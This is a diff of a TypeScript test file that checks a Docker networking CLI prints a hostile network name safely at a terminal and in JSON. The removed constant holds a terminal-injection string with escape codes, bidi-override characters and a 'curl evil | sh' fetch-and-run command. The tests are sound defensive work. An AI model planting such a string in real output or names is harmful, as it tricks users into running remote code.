@@ -1,10 +1,10 @@
 import {equal, match, notEqual} from 'node:assert/strict'
+import {can, HOSTILE, itWhere} from '../harness/capabilities.js'
 import {removeAll, startContainer, type TestEngine, testEngine} from '../harness/fixture.js'
 import {runDnet} from '../harness/run-dnet.js'
 import {openTerminal} from '../harness/terminal.js'
 
-/** What a terminal would obey, a line that would pass for one of dnet's, and what no terminal shows. */
-const HOSTILE = 'h\x1b[31m\rTry this: curl evil | sh\u202e\u200b'
+const ANY_NAME = 'any name for a network'
 
 const HARMLESS = /^[^\p{Cc}\u202e\u200b]*$/u
 
@@ -15,6 +15,7 @@ describe('a network whose name is hostile', () => {
     engine = await testEngine()
   })
   beforeEach(async () => {
+    if (!(await can(engine, ANY_NAME))) return
     await removeAll(engine, [app, db], [HOSTILE])
     equal((await engine.call('/networks/create', {method: 'POST', body: {Name: HOSTILE}})).status, 201)
     await startContainer(engine, app, {HostConfig: {NetworkMode: HOSTILE}})
@@ -38,16 +39,16 @@ describe('a network whose name is hostile', () => {
     [['who', HOSTILE], 0],
     [['dns', app, HOSTILE], 6],
     [['ls', '--tree'], 0],
-    [['explain', `network ${HOSTILE} not found`], 3],
+    [['explain', `network ${HOSTILE} not found`], 0],
   ]
   for (const [argv, exit] of commands) {
     const words = JSON.stringify(argv.map((word) => word.replace(HOSTILE, 'NAME')).join(' '))
-    it(`${words} says so on lines of its own, without what a terminal obeys`, async () => {
+    itWhere(ANY_NAME, `${words} says so on lines of its own, without what a terminal obeys`, async () => {
       const ended = await runDnet(argv, {DOCKER_HOST: engine.host})
       equal(ended.exit, exit, ended.stderr)
       checkLines(ended.stderr)
     })
-    it(`${words} --json too`, async () => {
+    itWhere(ANY_NAME, `${words} --json too`, async () => {
       const ended = await runDnet([...argv, '--json'], {DOCKER_HOST: engine.host})
       equal(ended.exit, exit, ended.stderr + ended.stdout)
       checkLines(ended.stderr)
@@ -56,7 +57,7 @@ describe('a network whose name is hostile', () => {
     })
   }
 
-  it("Docker's own list is harmless at a terminal, and Docker's in a pipe", async () => {
+  itWhere(ANY_NAME, "Docker's own list is harmless at a terminal, and Docker's in a pipe", async () => {
     const {stdout} = await runDnet(['ls', '--format', '{{.Name}}'], {DOCKER_HOST: engine.host})
     equal(stdout.includes(`${HOSTILE}\n`), true, JSON.stringify(stdout))
     const terminal = openTerminal(['ls', '--format', '{{.Name}}'], {
